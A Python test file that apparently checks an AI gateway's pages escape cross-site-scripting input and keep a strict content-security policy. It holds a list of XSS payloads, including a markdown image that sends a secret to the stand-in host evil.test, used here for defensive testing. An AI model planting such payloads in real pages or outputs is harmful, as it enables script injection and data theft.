"""K7: what people and models wrote never becomes part of a page."""

import asyncio
from pathlib import Path
from urllib.parse import quote

import pytest

from execution_platform.gateway.docs import page
from execution_platform.testing import FakeUpstream, Script, Status, Text
from serving import MODELS, chat_body, serving, three_vendors

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "javascript:alert(1)",
    "![x](http://evil.test/?q=secret)",
    "'\"><iframe src=//evil.test>",
]
PAGES = {"/docs"}
"""All that is HTML without a login; the page behind one is a constant."""


def test_only_the_documentation_is_a_page_and_it_runs_nothing(tmp_path: Path) -> None:
    async def run() -> None:
        personas = {"dev": {"prefer": [MODELS["openai_chat"]], "description": PAYLOADS[0], "system": PAYLOADS[1]}}
        async with FakeUpstream() as upstream:
            upstream.script(Script(Text(PAYLOADS[0])), Script(Status(400, message=PAYLOADS[1])))
            async with serving(tmp_path, three_vendors(upstream, personas=personas)) as gateway:
                for _ in range(2):
                    got = await gateway.post(*chat_body("openai_chat", PAYLOADS[2], "persona/dev"))
                    assert (got.header("content-type") or "").startswith("application/json")
                routes = {
                    path for path, item in (await gateway.get("/openapi.json")).json()["paths"].items() if "get" in item
                }
                assert len(routes) > 20
                for path in sorted(routes | PAGES):
                    if path.endswith("/events") or path == "/mcp":
                        continue
                    for payload in PAYLOADS[:3]:
                        filled = "/".join(
                            quote(payload, safe="") if part.startswith("{") else part for part in path.split("/")
                        )
                        answer = await gateway.get(f"{filled}?q={quote(payload, safe='')}")
                        kind = answer.header("content-type") or ""
                        assert ("html" in kind) == (path in PAGES), path
                        if path in PAGES:
                            policy = answer.header("content-security-policy") or ""
                            assert policy.startswith("default-src 'none'")
                            assert "unsafe" not in policy
                            assert not any(text in answer.body.decode() for text in PAYLOADS)

    asyncio.run(run())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_texts_of_the_document_are_text_on_its_page(payload: str) -> None:
    operation = {
        "summary": payload,
        "tags": [payload],
        "parameters": [{"name": payload, "in": payload, "description": payload}],
        "requestBody": {"content": {"application/json": {"schema": {payload: payload}}}},
        "responses": {payload: {"description": payload}},
    }
    written = page({"info": {"title": payload, "version": "1"}, "paths": {f"/{payload}": {"get": operation}}})
    body = written.partition("</head>")[2]
    for tag in ("<script", "<img", "<svg", "<iframe"):
        assert tag not in body
